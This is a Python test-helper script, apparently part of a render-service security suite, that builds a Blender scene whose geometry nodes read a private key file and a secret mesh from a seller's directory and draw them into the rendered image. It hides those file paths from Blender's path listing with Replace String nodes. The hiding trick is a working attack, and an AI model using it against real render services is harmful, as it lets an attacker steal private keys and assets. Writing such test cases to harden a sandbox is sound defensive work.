"""Build a job folder whose scene reads a seller-side file through computed paths.

``python make_attack.py JOB_DIR SECRET_DIR`` writes ``JOB_DIR/scene.blend``: a camera looking
at an emissive plane and a geometry-nodes object that imports ``SECRET_DIR/identity.wif``
(Import Text, drawn as curves) and ``SECRET_DIR/secret.obj`` (Import OBJ, a big quad). Both
paths are computed by Replace String nodes, so ``blend_paths()`` never shows them. Run by the
tests with the real ``bpy`` module; the .blend has no scripts.
"""

from __future__ import annotations

import sys
from pathlib import Path

import bpy


def computed(tree, nodes, text: str, secret_dir: str):
    """A string node chain that yields ``secret_dir + text`` without storing it whole."""
    node = nodes.new("FunctionNodeReplaceString")
    node.inputs["String"].default_value = "@@" + text
    node.inputs["Find"].default_value = "@@"
    node.inputs["Replace"].default_value = secret_dir + "/"
    return node.outputs[0]


def attack_tree(secret_dir: str):
    tree = bpy.data.node_groups.new("leak", "GeometryNodeTree")
    tree.interface.new_socket("Geometry", in_out="OUTPUT", socket_type="NodeSocketGeometry")
    nodes, links = tree.nodes, tree.links
    out = nodes.new("NodeGroupOutput")
    join = nodes.new("GeometryNodeJoinGeometry")
    text = nodes.new("GeometryNodeImportText")
    links.new(computed(tree, nodes, "identity.wif", secret_dir), text.inputs["Path"])
    curves = nodes.new("GeometryNodeStringToCurves")
    curves.inputs["Size"].default_value = 0.6
    links.new(text.outputs[0], curves.inputs["String"])
    fill = nodes.new("GeometryNodeFillCurve")
    links.new(curves.outputs["Curve Instances"], fill.inputs["Curve"])
    obj = nodes.new("GeometryNodeImportOBJ")
    links.new(computed(tree, nodes, "secret.obj", secret_dir), obj.inputs["Path"])
    links.new(fill.outputs[0], join.inputs[0])
    links.new(obj.outputs[0], join.inputs[0])
    links.new(join.outputs[0], out.inputs[0])
    return tree


def emissive(name: str, color: tuple[float, float, float, float]):
    mat = bpy.data.materials.new(name)
    mat.use_nodes = True
    nt = mat.node_tree
    nt.nodes.clear()
    em = nt.nodes.new("ShaderNodeEmission")
    em.inputs["Color"].default_value = color
    em.inputs["Strength"].default_value = 3.0
    out = nt.nodes.new("ShaderNodeOutputMaterial")
    nt.links.new(em.outputs[0], out.inputs[0])
    return mat


def main(job: Path, secret_dir: str) -> None:
    bpy.ops.wm.read_factory_settings(use_empty=True)
    scene = bpy.context.scene
    scene.name = "Shot"
    scene.render.engine = "CYCLES"
    scene.render.resolution_x, scene.render.resolution_y = 64, 48
    cam = bpy.data.objects.new("Camera", bpy.data.cameras.new("Camera"))
    cam.location = (0.0, 0.0, 8.0)
    scene.collection.objects.link(cam)
    scene.camera = cam
    bpy.ops.mesh.primitive_plane_add(size=30.0, location=(0.0, 0.0, -1.0))
    bpy.context.object.data.materials.append(emissive("ground", (0.1, 0.1, 0.1, 1.0)))
    mesh = bpy.data.meshes.new("leak")
    leak = bpy.data.objects.new("leak", mesh)
    scene.collection.objects.link(leak)
    leak.location = (-2.0, 0.0, 0.0)
    mod = leak.modifiers.new("leak", "NODES")
    mod.node_group = attack_tree(secret_dir)
    mesh.materials.append(emissive("bright", (1.0, 0.9, 0.2, 1.0)))
    job.mkdir(parents=True, exist_ok=True)
    bpy.ops.wm.save_as_mainfile(filepath=str(job / "scene.blend"))


if __name__ == "__main__":
    main(Path(sys.argv[-2]), sys.argv[-1])
